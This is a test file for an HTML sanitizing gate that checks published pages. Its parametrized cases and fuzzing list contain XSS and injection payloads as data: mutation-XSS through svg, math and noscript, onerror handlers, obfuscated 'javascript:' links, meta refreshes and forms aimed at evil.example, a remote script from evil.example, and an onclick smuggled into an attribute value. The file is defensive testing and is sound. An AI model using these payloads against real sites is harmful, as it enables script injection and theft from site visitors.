"""The one gate every published HTML file passes (guide/outputs/published_html.py): the file as a browser
reads it, judged against the allowlist and written out from that tree, so that what a browser
reads is what was judged."""

from __future__ import annotations

import pytest
from guide.outputs.published_html import publishable
from hypothesis import example, given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

pytestmark = pytest.mark.unit

PAGE = '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>T</title></head><body>{}</body></html>'


def live_tags(html: str) -> set[str]:
    return {node.tag for node in LexborHTMLParser(html).root.traverse() if not node.tag.startswith("-")}


@pytest.mark.parametrize(
    "markup, what",
    [
        # Foreign content: lxml reads the <style>'s children as text; a browser reads a live <meta>.
        (
            '<svg><style><meta http-equiv="refresh" content="0;url=file:///etc/passwd"></style></svg>',
            "a <style> inside",
        ),
        ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "a <math> element"),
        ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "a <noscript> element"),
        ("<template><script>alert(1)</script></template>", "a <template> element"),
        ('<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', "a <a> inside"),
        ('<p title="&lt;img src=x onerror=alert(1)&gt;">x</p>', "markup in the title of <p>"),
        ('<a href="#&quot;&gt;&lt;meta http-equiv=refresh content=0&gt;">x</a>', "markup in the href of <a>"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'a <meta http-equiv="refresh">'),
        ('<meta name="x" http-equiv="set-cookie" content="a=b">', 'a <meta http-equiv="set-cookie">'),
        ('<a href="jav&#x09;ascript:alert(1)">x</a>', "a 'javascript:' address"),
        ('<img src="//evil.example/x.png" alt="">', "a <img> loaded from another site"),
        ('<form action="https://evil.example/"><input name="q"></form>', "a form that sends"),
        ('<input type="image" src="x.png">', 'an <input type="image">'),
        ('<link rel="import" href="x.html">', 'a <link rel="import">'),
        ("<style>@import 'https://evil.example/x.css';</style>", "a style sheet that loads"),
        ("<script>document.title='PWNED'</script>", "an inline script that is not one of the theme's own"),
        ('<script type="text/x-whatever">x</script>', 'a script of type "text/x-whatever"'),
        ('<div onpointerover="alert(1)">x</div>', "an event handler (onpointerover)"),
        ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "a <iframe> element"),
        ('<base href="https://evil.example/">', "a <base> element"),
        ('<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>', "the attribute 'xss'"),
    ],
)
def test_what_a_browser_would_run_load_or_follow_is_refused_and_not_written(markup, what):
    published = publishable(PAGE.format(markup))
    assert any(f.what.startswith(what) for f in published.findings), published.findings
    assert (
        not live_tags(published.html)
        & {"meta", "script", "img", "style", "iframe", "base", "noscript", "math"} - {"meta"}
        or "refresh" not in published.html
    )
    assert "onerror" not in published.html and "javascript" not in published.html.lower()
    assert "evil.example" not in published.html
    again = publishable(published.html)
    assert (again.html, again.findings) == (published.html, [])


@pytest.mark.parametrize("bare", ["data-search-exclude", 'data-search-exclude=""'])
def test_materials_search_exclude_passes_the_gate_only_as_a_bare_boolean_attribute(bare):
    published = publishable(PAGE.format(f'<p class="guide-reference" {bare}>A study title.</p>'))
    assert published.findings == [] and "data-search-exclude" in published.html
    refused = publishable(PAGE.format('<p data-search-exclude="x&quot; onclick=alert(1)">A study title.</p>'))
    assert any(f.what.startswith("a value in data-search-exclude") for f in refused.findings), refused.findings
    assert "onclick" not in refused.html


def test_the_themes_page_passes_unchanged_in_what_a_browser_reads():
    page = (
        '<!doctype html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width">'
        '<meta http-equiv="Content-Security-Policy" content="script-src \'self\'"><link rel="stylesheet" href="a.css">'
        '<link rel="canonical" href="https://example.org/"><script src="b.js"></script>'
        '<script id="__config" type="application/json">{"base": "."}</script></head><body>'
        '<input class="md-toggle" type="checkbox" id="__drawer"><label for="__drawer" hidden></label>'
        '<form class="md-search__form" name="search"><input type="text" required></form>'
        '<svg viewBox="0 0 24 24" xmlns="http://www.w3.org/2000/svg"><path d="M3 6h18"/></svg>'
        '<p data-md-component="x" aria-label="y">Age &lt; 50 &amp; more</p></body></html>'
    )
    published = publishable(page)
    assert published.findings == []
    assert LexborHTMLParser(published.html).html == LexborHTMLParser(page).html


# Markup made of the pieces where parsers disagree: foreign content, raw text, comments, entities.
PIECES = st.sampled_from(
    [
        "<svg>", "</svg>", "<math>", "<mtext>", "<mglyph>", "<style>", "</style>", "<title>", "</title>",
        "<noscript>", "</noscript>", "<template>", "<table>", "<select>", "<textarea>", "</textarea>",
        "<p>", "</p>", "<a href='#x'>", "</a>", "<img src=x onerror=alert(1)>", "<!--", "-->", "--!>",
        "<![CDATA[", "]]>", "&lt;", "&gt;", "&quot;", "\"", "'", "<meta http-equiv=refresh content=0>",
        "<script>alert(1)</script>", "<h2 id='", "'>", "<xmp>", "</xmp>", "<plaintext>", "<iframe>", "x",
    ]
)  # fmt: skip


@settings(max_examples=500, deadline=None)
@given(st.lists(PIECES, max_size=25))
# Found by Hypothesis: a link in a table in a link is moved by a second reading, and again.
@example(["<a href='#x'>", "<table>", "<a href='#x'>"])
def test_what_the_gate_writes_passes_it_again_unchanged(pieces):
    published = publishable(PAGE.format("".join(pieces)))
    again = publishable(published.html)
    assert again.findings == [] and again.html == published.html
    live = [node for node in LexborHTMLParser(published.html).root.traverse() if not node.tag.startswith("-")]
    assert not [(node.tag, name) for node in live for name in node.attributes if name.startswith("on")]
    assert not [node for node in live if node.tag in ("script", "iframe", "noscript", "template", "math")]
    assert not [node for node in live if node.tag == "meta" and "http-equiv" in node.attributes]
